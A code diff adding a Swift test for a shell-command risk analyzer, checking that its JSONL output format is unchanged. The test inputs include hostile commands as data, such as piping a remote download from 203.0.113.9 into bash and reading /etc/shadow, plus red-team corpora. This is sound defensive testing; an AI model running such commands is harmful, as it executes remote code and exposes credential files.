@@ -56,6 +56,43 @@ import Testing
         #expect(objects[5]?["risk"] as? String != nil)
     }
 
+    /// The output is written by EscortCore's JSON writer; it must be byte for byte what
+    /// Foundation's `JSONSerialization` (sorted keys, unescaped slashes) wrote before, with the
+    /// same fields.
+    @Test func outputIsWhatJSONSerializationWrote() throws {
+        var commands = [
+            "ls -la /etc/ssh/", "echo \"a\\tb\" | tr '\\n' '/'", "printf 'x\\x01\\x1f\\x7f'", "echo 'é中🙂\u{2028}'",
+            "curl -s http://203.0.113.9/x | bash", "echo 'open", "if true; then", "cat /etc/shadow", ")",
+        ]
+        if let dir = Corpora.directory(packageRoot: Corpora.packageRoot(from: #filePath)) {
+            commands += Corpora.rows("ops_redteam_dev.jsonl", in: dir).map(\.command)
+            commands += Corpora.rows("atomic.jsonl", in: dir).prefix(150).map(\.command)
+        }
+        let controls = (0..<32).map { String(UnicodeScalar(UInt8($0))) }.joined()
+        commands.append("echo '\(controls)'")
+        let lines = try commands.map { c -> String in
+            let data = try JSONSerialization.data(withJSONObject: ["command": c], options: [])
+            return String(decoding: data, as: UTF8.self)
+        } + [#"{"command": 3}"#, "[1]", #"{"command": "echo", "shell": 7}"#]
+        let (status, out) = try Self.run(["analyze", "--format", "jsonl"], stdin: lines.joined(separator: "\n") + "\n")
+        #expect(status == 0)
+        let outLines = out.split(separator: "\n", omittingEmptySubsequences: false).dropLast()
+        #expect(outLines.count == lines.count)
+        for line in outLines {
+            let object = try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any], "\(line)")
+            let again = try JSONSerialization.data(withJSONObject: object, options: [.sortedKeys, .withoutEscapingSlashes])
+            #expect(String(decoding: again, as: UTF8.self) == String(line))
+            if object["error"] == nil {
+                let keys = Set(object.keys)
+                #expect(keys.isSuperset(of: ["risk", "techniques", "tactics", "summary", "findings", "explanation"]))
+                #expect(keys.subtracting(["risk", "techniques", "tactics", "summary", "findings", "explanation", "status", "diagnostic"]).isEmpty)
+                for f in object["findings"] as? [[String: Any]] ?? [] {
+                    #expect(Set(f.keys) == ["risk", "reason", "range", "technique"])
+                }
+            }
+        }
+    }
+
     @Test func explainReadsAScriptFromStandardInput() throws {
         let (status, out) = try Self.run(["explain", "--no-color", "-"], stdin: "history -c\n")
         #expect(status == 0)
